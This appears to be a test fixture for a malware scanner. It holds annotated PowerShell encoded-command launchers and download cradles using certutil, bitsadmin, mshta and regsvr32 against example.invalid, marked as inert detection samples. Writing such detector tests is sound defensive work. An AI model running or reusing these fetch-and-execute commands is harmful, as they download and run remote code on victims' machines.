# canary-test: path=mypkg/ps.py artifact=wheel
# PowerShell loaders (inert: the base64 decodes to `Write-Output 'inert'`, and
# nothing here is called).
import subprocess

# ruleid: POWERSHELL_ENCODED_COMMAND, POWERSHELL_ENCODED_HIDDEN, powershell_encoded
CMD = "powershell.exe -NoProfile -WindowStyle Hidden -enc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAGkAbgBlAHIAdAAnAA=="


def run(payload):
    # ruleid: POWERSHELL_ENCODED_COMMAND, POWERSHELL_ENCODED_HIDDEN, powershell_encoded
    subprocess.run(["powershell", "-NoProfile", "-EncodedCommand", payload])


def cradle():
    # ruleid: LOLBIN_DOWNLOAD, POWERSHELL_ENCODED_HIDDEN, lolbin_download
    return "powershell -c \"(New-Object Net.WebClient).DownloadFile('https://example.invalid/x', 'x.exe')\""


def lolbins():
    return [
        # ruleid: LOLBIN_DOWNLOAD, POWERSHELL_ENCODED_HIDDEN, lolbin_download
        "certutil.exe -urlcache -split -f https://example.invalid/p.exe p.exe",
        # ruleid: LOLBIN_DOWNLOAD, POWERSHELL_ENCODED_HIDDEN, lolbin_download
        "bitsadmin /transfer job https://example.invalid/p.exe C:\\p.exe",
        # ruleid: LOLBIN_DOWNLOAD, POWERSHELL_ENCODED_HIDDEN, lolbin_download
        "mshta https://example.invalid/p.hta",
        # ruleid: LOLBIN_DOWNLOAD, POWERSHELL_ENCODED_HIDDEN, lolbin_download
        "regsvr32 /s /n /u /i:https://example.invalid/p.sct scrobj.dll",
    ]
# ok: REVERSE_SHELL_COMMAND, DROPPER_DOWNLOAD_CHMOD_RUN
